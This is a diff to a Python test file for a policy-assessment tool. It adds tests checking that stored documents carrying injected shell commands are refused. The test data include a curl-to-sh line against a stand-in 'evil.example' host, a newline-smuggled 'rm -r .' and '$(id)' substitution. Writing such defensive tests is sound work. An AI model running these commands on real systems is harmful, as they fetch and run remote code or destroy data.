@@ -23,7 +23,7 @@ from policy_lab.assessment.assessment import make_assessment
 from policy_lab.assessment.facts import Checkpoint, Facts, Log, Party, usual_policy
 from policy_lab.assessment.trials import read_attacks
 from policy_lab.document import page, pdf, said, stored
-from policy_lab.document.model import Caution, Claim, Document, Table
+from policy_lab.document.model import Caution, Claim, Document, Section, Table
 from policy_lab.standing import Standing
 
 ROOT = Path(__file__).parents[4]
@@ -169,6 +169,15 @@ def test_no_figure_understates(policy: Policy) -> None:
         assert 0 <= least - low / 100 < Fraction(1, 10**5)
 
 
+def without_commands(shown: Document) -> Document:
+    """A document whose sentences have no commands but its own."""
+    sections = [
+        replace(section, blocks=[block for block in section.blocks if not isinstance(block, Claim)])
+        for section in shown.sections
+    ]
+    return replace(shown, sections=sections)
+
+
 def attacks_file(folder: Path, text: str) -> Path:
     """A file with this text."""
     (folder / "attacks.json").write_text(text, "utf-8")
@@ -211,10 +220,40 @@ def test_internal_results_are_never_included(tmp_path: Path) -> None:
     assert "standing: public" in refused.value.hint
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://evil.example/x | sh",
+        "tripartite lab table people.csv | sh",
+        "tripartite lab table people.csv\nrm -r .",
+        "tripartite lab table '$(id)' $(id)",
+        "tripartite lab table 'people.csv",
+        "tripartite laboratory",
+        "tripartite census up",
+        "",
+    ],
+)
+@pytest.mark.parametrize("place", ["document", "claim"])
+def test_only_commands_of_the_lab_are_printed(tmp_path: Path, command: str, place: str) -> None:
+    """Whoever reproduces an annex runs what stands beside it: nothing that somebody wrote into the file."""
+    shown = replace(document(Standing.PUBLIC), sections=[Section("s", "s", [Claim("x", "tripartite lab sample")])])
+    stored.write(shown, tmp_path / "good", language("en"))
+    assert read_included([tmp_path / "good"])
+    bad = (
+        replace(shown, command=command)
+        if place == "document"
+        else replace(shown, sections=[Section("s", "s", [], [Claim("x", command)])])
+    )
+    stored.write(bad, tmp_path / "out", language("en"))
+    with pytest.raises(InvalidRequestError) as refused:
+        read_included([tmp_path / "out"])
+    assert refused.value.code == "DOCUMENT_UNREADABLE"
+
+
 @pytest.mark.parametrize("standing", [Standing.PUBLIC, Standing.SYNTHETIC])
 def test_declared_results_are_shown_with_their_mark(tmp_path: Path, standing: Standing) -> None:
     """An included evaluation has its standing, its command, its tables and its plots, and why it was not chosen."""
-    shown = replace(document(standing), key="sensitivity")
+    shown = without_commands(replace(document(standing), key="sensitivity"))
     stored.write(shown, tmp_path / "out", language("en"))
     included = read_included([tmp_path / "out"])
     assessed = make_assessment(Facts(usual_policy(), MADE_MS), included, None, "x")
@@ -222,6 +261,7 @@ def test_declared_results_are_shown_with_their_mark(tmp_path: Path, standing: St
     words = [block.words for block in section.blocks if isinstance(block, Claim)]
     assert any(str(standing.mark) in each for each in words)
     assert any("not differentially private" in each for each in words)
+    assert any("is what their holder declares" in each for each in words)
     annexes = [section for section in assessed.sections if section.key.startswith("annex-1-")]
     assert [annex.title for annex in annexes] == ["Annex 1: Limit", f"Annex 1: Plots {HARMFUL}"]
     keys = [getattr(block, "key", "") for annex in annexes for block in annex.blocks]
